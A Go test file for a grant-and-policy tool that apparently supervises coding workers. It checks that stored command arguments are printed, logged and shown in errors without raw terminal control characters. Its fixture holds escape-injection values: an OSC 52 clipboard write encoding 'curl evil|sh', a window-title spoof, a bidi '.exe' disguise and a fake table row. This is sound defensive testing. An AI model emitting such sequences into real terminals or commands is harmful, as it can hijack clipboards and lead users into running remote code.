package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"reasonixctl/core"
	"reasonixctl/core/gitx"
)

// hostileArgv is a command a worker could ask for and a person grant: its words carry OSC 52
// (set the clipboard), OSC 0 (the window title), CSI 2J (clear the screen), a C1 CSI, a line
// separator, NEL, a bidi override and a newline that would fake a row of its own.
var hostileArgv = []string{"make", "lint\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b]0;pwned\x07", "\x1b[2J", "\u009b31m",
	"x\u2028y\u0085z", "\u202Egnp.exe", "a\nb00000000\tfake-row"}

// rawControls are what must never reach a terminal from stored or worker-provided text.
var rawControls = []string{"\x1b", "\x07", "\u009b", "\u2028", "\u0085", "\u202E"}

func assertInert(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range rawControls {
		if strings.Contains(out, c) {
			t.Errorf("%s prints %q raw:\n%q", what, c, out)
		}
	}
}

// Every command that prints a grant's argv shows its bytes without obeying them: grants list
// (text and --json), grants revoke, policy explain (text and --json).
func TestCommandsPrintStoredTextInert(t *testing.T) {
	state := privateDir(t)
	t.Setenv("CODEX_REASONIX_STATE_DIR", state)
	repo := testRepo(t)
	src, err := gitx.OpenSource(t.Context(), repo, "HEAD")
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.AddGrant(state, core.Grant{RepositoryID: src.ID, Repository: src.Root, Argv: hostileArgv, TaskID: "t-1", CreatedBy: core.BySupervisor})
	if err != nil {
		t.Fatal(err)
	}

	code, out, errOut := runCmd(grantsCmd, "list")
	if code != 0 {
		t.Fatalf("grants list: %d %q", code, errOut)
	}
	assertInert(t, "grants list", out)
	if rows := strings.Count(strings.TrimSpace(out), "\n") + 1; rows != 1 || !strings.Contains(out, "␛]52;c;") || !strings.Contains(out, "⟨U+202E⟩") {
		t.Errorf("grants list shows %d rows, want the one grant with its controls visible:\n%s", rows, out)
	}

	code, out, _ = runCmd(grantsCmd, "list", "--json")
	assertInert(t, "grants list --json", out)
	var listed []core.Grant
	if err := json.Unmarshal([]byte(out), &listed); code != 0 || err != nil || len(listed) != 1 || !slices.Equal(listed[0].Argv, hostileArgv) {
		t.Fatalf("grants list --json does not give the argv exactly: %d %v %q", code, err, out)
	}

	args := append([]string{"explain", "--repo", repo, "--worktree", repo, "--cwd", repo, "--"}, hostileArgv...)
	code, out, errOut = runCmd(policyCmd, args...)
	if code != 0 {
		t.Fatalf("policy explain: %d %q", code, errOut)
	}
	assertInert(t, "policy explain", out)
	code, out, _ = runCmd(policyCmd, append([]string{"explain", "--json"}, args[1:]...)...)
	assertInert(t, "policy explain --json", out)
	var e struct{ Decision, Grant string }
	if err := json.Unmarshal([]byte(out), &e); code != 0 || err != nil || e.Grant != g.ID {
		t.Fatalf("policy explain --json: %d %v %q", code, err, out)
	}

	code, out, errOut = runCmd(grantsCmd, "revoke", g.ID)
	if code != 0 {
		t.Fatalf("grants revoke: %d %q", code, errOut)
	}
	assertInert(t, "grants revoke", out)
	if strings.Count(out, "\n") != 1 {
		t.Errorf("grants revoke prints more than its one line:\n%s", out)
	}
}

// An error that quotes a worker's bytes reaches stderr inert too.
func TestErrorsPrintInert(t *testing.T) {
	state := privateDir(t)
	t.Setenv("CODEX_REASONIX_STATE_DIR", state)
	code, out, errOut := runCmd(grantsCmd, "revoke", "g-\x1b]0;pwned\x07\u202E")
	if code == 0 {
		t.Fatalf("revoking an unknown grant succeeded: %q", out)
	}
	assertInert(t, "grants revoke's error", errOut)
}

// The log file holds the worker's words as inert text.
func TestLogFileIsInert(t *testing.T) {
	dir := privateDir(t)
	log, closer, err := openLog(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	log.Info("worker stderr", "line", strings.Join(hostileArgv, " "), "argv", hostileArgv)
	closer.Close()
	b, err := os.ReadFile(filepath.Join(dir, "logs", "reasonixctl.log"))
	if err != nil {
		t.Fatal(err)
	}
	assertInert(t, "the log", string(b))
	if n := strings.Count(string(b), "\n"); n != 1 {
		t.Errorf("one log record made %d lines:\n%s", n, b)
	}
}
